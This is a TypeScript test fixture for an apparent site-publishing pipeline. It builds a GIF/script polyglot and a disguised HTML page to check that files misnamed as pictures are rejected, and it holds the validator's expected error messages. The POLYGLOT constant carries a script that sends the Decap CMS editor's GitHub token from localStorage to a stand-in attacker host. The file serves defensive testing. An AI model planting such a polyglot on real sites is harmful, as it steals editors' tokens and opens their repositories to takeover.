/**
 * Files that are pictures by their first bytes and something else by their name (issue 41,
 * item 4): a GIF with a script after it is a GIF to every check of magic bytes, and a page
 * (chart.html) or a script (chart.js) to a browser or a static host, served from the site's
 * own origin, where it reads the content manager's GitHub token in localStorage.
 */
import sharp from 'sharp'

/** What the script would take: Decap keeps the editor's GitHub token under this key. */
export const STOLEN = 'decap-cms-user'

/** A whole 1 × 1 GIF, then a script: a GIF to the check, a page as chart.html, a script as chart.js. */
export const POLYGLOT = Buffer.concat([
  Buffer.from(
    'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
    'latin1',
  ),
  Buffer.from(`<script>fetch('https://attacker.example/?t=' + localStorage.getItem('${STOLEN}'))</script>`),
])

/** A page, under a picture's name. */
export const PAGE = Buffer.from(`<!doctype html><script>alert(localStorage.getItem('${STOLEN}'))</script>`)

/** A real 8 × 8 JPEG. */
export const jpeg = () =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#2a6' } })
    .jpeg()
    .toBuffer()

/** The check's words (pipeline/pictures/pictureKind.ts), as the editor reads them after the file's path. */
const ENDINGS = '.jpg, .jpeg, .png, .webp, .avif, .gif or .svg'
export const misnamed = (kind: string, rename: string) =>
  `a picture's name must end in ${ENDINGS}; its bytes are ${kind}: rename it ${rename}`
export const otherKind = (ending: string, kind: string, endings: string, rename: string) =>
  `its name ends in ${ending}, but its bytes are ${kind}, whose name must end in ${endings}: rename it ${rename}`
export const NOT_A_PICTURE =
  'this file is not a picture (its bytes are not JPEG, PNG, WebP, AVIF, GIF or SVG), so it cannot be published: remove it'
